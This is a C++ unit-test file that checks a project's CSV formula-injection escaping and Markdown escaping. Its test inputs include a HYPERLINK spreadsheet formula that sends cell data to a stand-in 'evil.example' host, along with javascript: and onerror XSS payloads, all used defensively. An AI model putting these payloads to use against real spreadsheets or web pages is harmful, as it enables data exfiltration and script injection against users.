#include "base/text/cells.h"

#include <gtest/gtest.h>

namespace ceems {
namespace {

TEST(Cells, NoCellOfCsvIsAFormula) {
  EXPECT_EQ(csv_cell("cp2k-water"), "cp2k-water");
  EXPECT_EQ(csv_cell(""), "");
  EXPECT_EQ(csv_cell("=HYPERLINK(\"http://evil.example/\"&A1)"),
            "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"");
  for (const std::string text : {"=1", "+1+1", "-2+3", "@SUM(1)", "\t=1"}) {
    EXPECT_EQ(csv_cell(text), "'" + text);
  }
  EXPECT_EQ(csv_cell("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_cell("a;b"), "\"a;b\"") << "some countries separate by semicolons";
  EXPECT_EQ(csv_cell("a\nb"), "\"a\nb\"");
  EXPECT_EQ(csv_cell(" a"), "\" a\"");
  EXPECT_EQ(csv_cell("a\xff"), "a\uFFFD");
  EXPECT_EQ(csv_cell(std::string("a\0b", 3)),
            "a\uFFFD"
            "b");
  EXPECT_EQ(csv_cell("a=1"), "a=1");
}

TEST(Cells, NoCellOfMarkdownIsMarkup) {
  EXPECT_EQ(escape_markdown("cp2k water-1.5"), "cp2k water-1.5");
  EXPECT_EQ(escape_markdown("[log in](javascript:alert(1))"),
            "\\[log in\\]\\(javascript:alert\\(1\\)\\)");
  EXPECT_EQ(escape_markdown("<img src=x onerror=alert(1)>"),
            "&lt;img src=x onerror=alert\\(1\\)&gt;");
  EXPECT_EQ(escape_markdown("a\\|9999 kWh|b"), "a\\\\\\|9999 kWh\\|b");
}

}  // namespace
}  // namespace ceems
